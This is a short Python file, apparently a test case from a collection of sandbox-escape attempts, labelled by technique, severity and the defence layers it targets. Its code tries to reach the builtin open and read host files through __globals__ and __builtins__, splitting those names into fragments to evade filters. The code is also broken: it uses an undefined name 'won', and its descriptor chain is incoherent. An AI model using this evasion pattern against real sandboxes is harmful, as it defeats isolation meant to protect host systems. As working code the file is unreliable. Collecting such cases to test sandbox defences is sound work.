# technique: a cached property looks its name up in the table of a builtin type
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import functools
import json

key = "__glo" + "bals__"

def by_table(table):
    """The real open, by the descriptors that the table of functions holds."""
    return table[key].__get__(json.dumps)["__built" + "ins__"]["op" + "en"]

def trick():
    cached = functools.cached_property(len)
    cached.attrname = key
    return by_table({key: cached.__get__(type(won))})

read_host(trick)
